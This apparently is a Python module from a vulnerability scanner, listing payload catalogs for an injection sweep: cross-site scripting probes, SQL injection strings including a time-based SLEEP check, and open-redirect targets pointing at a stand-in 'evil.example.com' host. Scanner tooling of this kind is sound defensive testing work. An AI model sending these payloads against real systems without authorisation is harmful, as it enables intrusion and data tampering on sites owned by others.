"""
Payload catalogs used by the injection sweep.

Order matters: it fixes the order in which findings are reported.
"""

from vulnsweep.scanner.modules.base import VulnerabilityClass

XSS_PAYLOADS = [
    '<script>alert("XSS")</script>',
    '"><script>alert("XSS")</script>',
    "';alert('XSS');//",
    "<img src=x onerror=\"alert('XSS')\">",
    "<svg onload=\"alert('XSS')\">",
    'javascript:alert("XSS")',
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<body onload=\"alert('XSS')\">",
]

SQLI_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1/*",
    "admin' --",
    "' UNION SELECT NULL--",
    "1' AND '1'='1",
    "1' AND SLEEP(5)--",
    "' AND 1=1--",
]

REDIRECT_PAYLOADS = [
    'https://evil.example.com',
    '//evil.example.com',
    'https://evil.example.com/path',
]

PAYLOADS = {
    VulnerabilityClass.XSS: XSS_PAYLOADS,
    VulnerabilityClass.SQLI: SQLI_PAYLOADS,
    VulnerabilityClass.OPEN_REDIRECT: REDIRECT_PAYLOADS,
}
